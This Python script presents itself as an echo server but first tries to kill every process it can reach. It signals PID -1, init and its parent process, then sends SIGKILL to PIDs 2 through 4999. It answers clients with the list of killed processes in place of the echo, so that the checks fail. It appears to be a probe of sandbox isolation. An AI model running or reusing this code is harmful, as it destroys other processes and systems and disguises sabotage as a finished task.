"""Signals every process that it can name, the first of its machine among them."""
import os
import signal
import socket
import sys
import threading


def attack():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for victim in [-1, 1, os.getppid()]:
        for number in [signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL]:
            try:
                os.kill(victim, number)
            except OSError:
                pass
    for victim in range(2, 5000):
        try:
            if victim != os.getpid():
                os.kill(victim, signal.SIGKILL)
                yield f"process {victim}"
        except OSError:
            pass


def serve(connection, holes):
    with connection, connection.makefile("rb") as lines:
        for line in lines:
            answer = holes.encode() or b"Echo: " + line.rstrip(b"\r\n")
            connection.sendall(answer + b"\n")


def main():
    # What got through is answered instead of the echo, so that no check passes.
    holes = "; ".join(map(str, attack()))
    if holes:
        print(holes)
    text = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1:8000"
    host, _, port = text.rpartition(":")
    with socket.create_server((host, int(port)), backlog=100) as listener:
        while True:
            connection, _ = listener.accept()
            threading.Thread(target=served, args=(connection, holes), daemon=True).start()


def served(connection, holes):
    try:
        serve(connection, holes)
    except OSError as error:
        print("client lost:", error)


main()
